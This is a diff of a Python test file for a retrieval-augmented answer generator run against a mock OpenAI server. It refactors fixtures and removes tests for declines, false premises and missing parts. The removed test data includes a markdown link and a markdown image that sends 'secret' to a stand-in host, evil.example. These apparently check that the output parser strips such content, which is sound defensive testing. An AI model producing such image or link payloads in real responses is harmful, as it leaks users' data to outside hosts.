@@ -3,50 +3,15 @@
 from __future__ import annotations
 
 import json
-from collections.abc import Iterator
-from typing import Any
 
 import pytest
 
-from rag.answers import Claim, Decline, Evidence, Growth, Written
+from rag.answers import Claim, Evidence, Growth
 from rag.errors import Cancelled, ContextTooLong, ModelError, ModelUnusable
-from rag.generate import GeneratedAnswerer
-from rag.llm import build_model
-from rag.parts import UNNAMED
 from rag.run import Run
-from rag.settings import LlmSettings
-from tests.rag.writing import BRIDGE, FERRY, claims, evidence, outcome
+from tests.rag.writing import BRIDGE, FERRY, QUESTION, answerer, claims, evidence, outcome, written
 from tests.servers.openai_server import OpenAIServer, Reply, Request, chunks
 from vectorstore.documents import RegionKind
-
-QUESTION = "What happened to the ferry?"
-
-
-@pytest.fixture
-def server() -> Iterator[OpenAIServer]:
-    with OpenAIServer() as running:
-        running.models = ["small"]
-        yield running
-
-
-@pytest.fixture
-def found() -> list[Evidence]:
-    return [
-        evidence(FERRY, title="Ferry sinks", date="2025-08-23", publisher="Lake Courier"),
-        evidence(BRIDGE, "bridge", title="No bridge"),
-    ]
-
-
-def answerer(server: OpenAIServer, **settings: Any) -> GeneratedAnswerer:
-    chosen = {"base_url": server.base_url, "timeout": 5.0, "retries": 0, **settings}
-    return GeneratedAnswerer(build_model(LlmSettings(**chosen)))
-
-
-def written(
-    server: OpenAIServer, reply: str, found: list[Evidence], run: Run | None = None
-) -> list[Written]:
-    server.script = lambda request: reply
-    return list(answerer(server).write(QUESTION, found, run or Run()))
 
 
 def sent(server: OpenAIServer) -> str:
@@ -81,57 +46,6 @@ def test_a_label_of_no_source_and_no_label_name_no_place(
 ) -> None:
     pieces = written(server, "The ferry sank [S9]. Divers found 61 bodies.", found)
     assert [claim.spans for claim in claims(pieces)] == [(), ()]
-
-
-@pytest.mark.parametrize(
-    "reply", ["NOT IN THE SOURCES", "The sources do not mention the price of the ferry."]
-)
-def test_it_may_say_that_the_sources_do_not_answer(
-    server: OpenAIServer, found: list[Evidence], reply: str
-) -> None:
-    pieces = written(server, reply, found)
-    assert claims(pieces) == []
-    assert outcome(pieces).decline is Decline.NOT_IN_SOURCES
-
-
-def test_what_it_says_after_no_is_not_read(server: OpenAIServer, found: list[Evidence]) -> None:
-    pieces = written(server, "NOT IN THE SOURCES\n\nBut ferries sink often [S1].", found)
-    assert claims(pieces) == []
-
-
-def test_a_false_premise_quotes_what_the_sources_say(
-    server: OpenAIServer, found: list[Evidence]
-) -> None:
-    pieces = written(server, "PREMISE: The bridge has not been rebuilt [S2].", found)
-    assert outcome(pieces).decline is Decline.PREMISE_NOT_IN_SOURCES
-    ((source, span),) = outcome(pieces).nearest
-    assert span.of(source.document.text) == BRIDGE
-
-
-PARTS = {
-    "MISSING: who owned it": ("who owned it",),
-    "MISSING: who [owned](https://evil.example) the **ferry**? [S2]": ("who owned the ferry?",),
-    "The sources do not say who owned the ferry.": ("who owned the ferry",),
-    "MISSING: the price of the ferry": (UNNAMED,),
-    "MISSING: whether the ferry had 74 owners": (UNNAMED,),
-    "MISSING: ![](https://evil.example/?q=secret)": (UNNAMED,),
-    "The sources do not mention that the minister sank it.": (UNNAMED,),
-    f"MISSING: {'the ferry and ' * 20}": (UNNAMED,),
-    "MISSING: who owned it\nMISSING: the price\nMISSING: the minister": ("who owned it", UNNAMED),
-    "MISSING: None.": (),
-    "MISSING: –": (),
-}
-
-
-@pytest.mark.parametrize("reply", PARTS)
-def test_a_part_without_an_answer_is_named_in_the_words_of_the_question(
-    server: OpenAIServer, found: list[Evidence], reply: str
-) -> None:
-    server.script = lambda request: f"The ferry sank on 22 August [S1].\n{reply}"
-    asked = "What happened to the ferry, and who owned it?"
-    pieces = list(answerer(server).write(asked, found, Run()))
-    assert len(claims(pieces)) == 1
-    assert outcome(pieces).missing == PARTS[reply]
 
 
 @pytest.mark.parametrize(
